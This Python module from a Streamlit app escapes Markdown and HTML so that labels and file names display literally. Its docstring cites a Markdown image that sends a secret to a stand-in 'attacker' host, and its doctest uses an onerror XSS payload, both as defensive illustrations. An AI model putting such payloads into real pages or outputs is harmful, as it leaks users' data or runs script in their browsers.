"""Short texts shown literally in Markdown: labels, file names, questions, error lines.

Streamlit renders Markdown without raw HTML (the app never passes ``unsafe_allow_html``), but
Markdown itself can still fetch (``![](http://attacker/?q=secret)``) or restyle. A label built
from a file name or a heading is escaped entirely: every Markdown and HTML character is
backslash-escaped, so it shows exactly as written. Note passages and model answers keep their
structure and math instead: they go through ``ui.note_render``.
"""

from __future__ import annotations

import re

_MARKDOWN_SPECIALS = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:=&\"'])")


def escape_markdown(text: str) -> str:
    """Text shown literally: no Markdown, no HTML, no LaTeX.

    >>> escape_markdown("<img src=x onerror=alert(1)> **b**")
    '\\\\<img src\\\\=x onerror\\\\=alert\\\\(1\\\\)\\\\> \\\\*\\\\*b\\\\*\\\\*'
    """
    escaped = _MARKDOWN_SPECIALS.sub(r"\\\1", text)
    return escaped.replace("\n", "  \n")  # keep the line breaks
